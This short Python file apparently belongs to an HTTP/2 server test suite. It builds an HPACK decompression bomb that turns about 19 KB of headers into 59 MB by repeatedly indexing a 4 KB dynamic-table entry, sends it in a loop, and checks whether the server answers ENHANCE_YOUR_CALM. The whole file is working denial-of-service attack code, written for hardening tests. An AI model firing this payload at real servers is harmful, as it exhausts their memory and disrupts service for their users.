"""Each byte repeats a field of 4 KB from HPACK's dynamic table: 19 KB become 59 MB."""

import http2
from attacker import CONTINUATION, ENHANCE_YOUR_CALM, error_of, frame, receive_until_end, send, text


def attack(attacker):
    bomb = b"\x40\x01x" + text(b"y" * 3900) + b"\xbe" * 15_000 + attacker.head()
    while not attacker.over():
        connection = attacker.http2(frame(http2.HEADERS, 0, 1, bomb[:16_000]))
        send(connection, frame(CONTINUATION, http2.END_HEADERS, 1, bomb[16_000:]))
        if error_of(receive_until_end(connection)) != ENHANCE_YOUR_CALM:
            return ["all 59 MB are decompressed"]
